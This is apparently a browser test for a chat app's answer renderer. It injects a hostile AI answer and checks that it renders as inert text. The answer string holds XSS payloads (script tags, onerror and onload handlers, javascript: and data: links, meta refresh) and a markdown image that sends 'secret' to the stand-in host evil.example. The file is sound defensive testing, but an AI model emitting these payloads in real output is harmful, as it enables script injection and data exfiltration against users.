import assert from 'node:assert/strict';

/** What a model could be talked into saying. Nothing of it may do anything. */
const ANSWER = [
  '<img src=x onerror="document.title=\'owned\'"> <script>document.title="owned"</script>',
  '', '<svg onload="document.title=\'owned\'"></svg>', '', '<iframe src="https://evil.example/"></iframe>', '',
  '![a](https://evil.example/1.png?q=secret) ![b][ref] ![c](//evil.example/2.png) ![d](data:image/svg+xml,<svg/onload=alert(1)>)',
  '', '[click](javascript:document.title="owned") [data](data:text/html,<script>alert(1)</script>) [good](https://example.org/page?x=1)',
  '', '<base href="https://evil.example/"> <link rel="prefetch" href="https://evil.example/3"> <style>*{background:url(https://evil.example/4)}</style>',
  '', '<meta http-equiv="refresh" content="0;url=https://evil.example/5"> <https://evil.example/6> https://evil.example/7', '',
  '[ref]: https://evil.example/8.png', '', '```html\n<script>document.title="owned"</script>\n```',
].join('\n');

/** An answer with every trick in it, put in the place of one that the box has given. */
export const hostile = {
  async 'an answer full of tricks is only text'({ ada }) {
    const { page } = ada;
    await page.route('**/turns?*', async (route) => {
      const response = await route.fetch();
      const body = await response.json();
      for (const turn of body.items) Object.assign(turn, { text: ANSWER, citations: [] });
      await route.fulfill({ response, json: body });
    });
    await page.getByRole('navigation', { name: 'Conversations' }).getByRole('link').last().click();
    await page.reload();
    await page.locator('.answer .prose').first().waitFor();
    await page.waitForTimeout(500);
    const found = await page.locator('.answer .prose').first().evaluate((prose) => ({
      tags: [...new Set([...prose.querySelectorAll('*')].map((element) => element.localName))].sort(),
      links: [...prose.querySelectorAll('a')].map((link) => [link.href, link.rel]),
      handlers: [...prose.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on')),
    }));
    const allowed = new Set(['a', 'p', 'code', 'pre', 'figure', 'figcaption', 'span', 'button', 'svg', 'path', 'rect', 'line', 'circle', 'polyline', 'br']);
    assert.deepEqual(found.tags.filter((tag) => !allowed.has(tag)), []);
    assert.deepEqual(found.handlers, []);
    for (const [href, rel] of found.links) {
      assert.match(href, /^https:\/\/(evil\.example|example\.org)\//);
      assert.equal(rel, 'noopener noreferrer nofollow');
    }
    assert.notEqual(await page.title(), 'owned');
    await ada.assertAccessible('a hostile answer');
    ada.assertCalm();
  },

  async 'a link is opened only after its address was shown'({ ada }) {
    const { page } = ada;
    await page.getByRole('link', { name: 'good' }).first().click();
    const dialog = page.getByRole('dialog', { name: 'Open a link?' });
    await dialog.getByText('https://example.org/page?x=1').waitFor();
    await ada.assertAccessible('a link about to be opened');
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    await page.unroute('**/turns?*');
    ada.assertCalm();
  },
};
